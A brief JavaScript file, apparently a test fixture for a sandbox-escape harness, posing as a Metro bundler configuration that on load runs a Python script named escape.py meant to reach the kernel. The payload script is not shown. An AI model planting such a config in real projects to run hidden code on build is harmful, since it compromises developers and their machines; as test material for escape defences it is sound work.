// What an attacker's configuration would do first: start a program that speaks to the kernel itself.
// Standing alone it is also a Metro configuration, and loads like one.
const {spawnSync} = require('child_process');

const mode = require('fs').readFileSync('/w/app/mode', 'utf8').trim();
const done = spawnSync('/usr/bin/python3', ['/w/app/escape.py', mode], {stdio: ['ignore', 1, 2, 3]});
process.exit(done.signal ? 99 : done.status);
